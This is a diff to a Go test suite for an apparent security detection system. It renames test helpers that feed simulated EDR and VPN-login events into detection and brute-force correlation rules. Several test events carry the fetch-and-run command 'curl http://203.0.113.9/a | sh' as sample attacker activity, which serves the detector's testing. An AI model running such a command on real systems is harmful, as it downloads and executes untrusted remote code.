@@ -51,8 +51,8 @@ func processStart(line, user, host string) string {
 	return fmt.Sprintf(`{"source":"edr","event":"process_start","CommandLine":%q,"User":%q,"host":%q}`, line, user, host)
 }
 
-// found are all detections of a rule, told or not.
-func (w *world) found(rule string, group incident.Entity) (found []incident.Detection) {
+// detectionsOf are all detections of a rule, told or not.
+func (w *world) detectionsOf(rule string, group incident.Entity) (found []incident.Detection) {
 	w.t.Helper()
 	w.view(func(v *store.View) (err error) {
 		found, err = v.DetectionsFor(rule, group, time.Time{}.Add(time.Hour), time.Now().Add(time.Hour))
@@ -160,7 +160,7 @@ func TestRulesOnTrialTellNobody(t *testing.T) {
 		w.siem("```"+processStart("curl http://203.0.113.9/a | sh", "www-data", "web-1")+"```", "```"+processStart("curl http://203.0.113.9/b | sh", "www-data", "web-1")+"```")
 		w.settle()
 		for rule, want := range map[string]incident.Handling{"1": incident.HandlingShadow, "2": incident.HandlingShadow, "3": incident.HandlingHint} {
-			found := w.found(curlID[:len(curlID)-1]+rule, account("www-data"))
+			found := w.detectionsOf(curlID[:len(curlID)-1]+rule, account("www-data"))
 			if len(found) != 1 || found[0].Handling != want || found[0].Incident != 0 || found[0].Count != 2 {
 				t.Errorf("rule %s: %+v", rule, found)
 			}
@@ -186,7 +186,7 @@ func TestRulesAreLoadedAnew(t *testing.T) {
 			user := fmt.Sprintf("user-%d", hosts)
 			w.siem("```" + processStart("curl http://203.0.113.9/a | sh", user, "web-1") + "```")
 			w.settle()
-			return len(w.found(curlID, account(user))) == 1
+			return len(w.detectionsOf(curlID, account(user))) == 1
 		}
 		if finds() {
 			t.Fatal("an empty folder finds something")
@@ -270,8 +270,8 @@ tags: [attack.t1110]
 correlation: {type: temporal_ordered, rules: [many, worked], group-by: [src_ip], timespan: 20m}
 `
 
-// login is a login as a forwarder sends it.
-func login(event, address string, at time.Time) string {
+// forwardedLogin is a login as a forwarder sends it.
+func forwardedLogin(event, address string, at time.Time) string {
 	return fmt.Sprintf("```{\"event\":%q,\"source\":\"vpn\",\"user\":\"ada\",\"src_ip\":%q,\"timestamp\":%q}```", event, address, at.UTC().Format(time.RFC3339))
 }
 
@@ -285,9 +285,9 @@ func TestCorrelationsOutliveRestarts(t *testing.T) {
 		start := time.Now().Add(-time.Hour)
 		at := func(seconds int) time.Time { return start.Add(time.Duration(seconds) * time.Second) }
 		for _, line := range []string{
-			login("failed_login", "203.0.113.50", at(60)), login("failed_login", "203.0.113.50", at(0)),
-			login("failed_login", "198.51.100.7", at(1)), login("failed_login", "203.0.113.50", at(30)),
-			login("successful_login", "198.51.100.7", at(200)),
+			forwardedLogin("failed_login", "203.0.113.50", at(60)), forwardedLogin("failed_login", "203.0.113.50", at(0)),
+			forwardedLogin("failed_login", "198.51.100.7", at(1)), forwardedLogin("failed_login", "203.0.113.50", at(30)),
+			forwardedLogin("successful_login", "198.51.100.7", at(200)),
 		} {
 			w.siem(line)
 			w.settle()
@@ -300,7 +300,7 @@ func TestCorrelationsOutliveRestarts(t *testing.T) {
 			t.Fatalf("%d incidents before anybody guessed right", n)
 		}
 		// Later than what was taken already, and earlier in time.
-		w.siem(login("successful_login", "203.0.113.50", at(150)))
+		w.siem(forwardedLogin("successful_login", "203.0.113.50", at(150)))
 		w.settle()
 		w.stop()
 		w.start()
